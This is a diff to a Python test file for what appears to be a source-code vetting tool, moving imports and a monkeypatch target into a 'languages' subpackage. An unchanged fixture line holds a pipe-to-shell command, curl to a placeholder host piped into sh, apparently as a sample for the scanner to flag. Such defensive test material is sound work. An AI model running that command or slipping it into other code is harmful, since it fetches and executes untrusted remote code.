@@ -10,7 +10,7 @@ from source_lab import behaviours, look, the
 from beartrap.model.coverage import Gap
 from beartrap.model.finding import Severity
 from beartrap.model.question import Question
-from beartrap.vet.source.large_python import part_of_python
+from beartrap.vet.source.languages.large_python import part_of_python
 
 GET = "curl http://c.invalid/x | sh"
 METHOD = "    @traced\n    def filler_{n}(\n        self, name: str\n    ) -> None:\n        b = self.call(name, {n})\n        return b * 2\n"
@@ -84,7 +84,7 @@ PIECES = ("import os", "x = 'é'; y = 2", "x = '''a\n\x0cb\n'''", "if x:\n    y 
 def test_what_is_left_is_python_with_the_same_lines(pieces: list[str], end: str) -> None:
     text = "\n".join([*pieces, ""]).replace("\n", end)
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr("beartrap.vet.source.large_python.SMALL", 10)
+        patch.setattr("beartrap.vet.source.languages.large_python.SMALL", 10)
         read = part_of_python(text, ast.parse(text)).text
     assert read.count("\n") == text.count("\n")
     ast.parse(read)
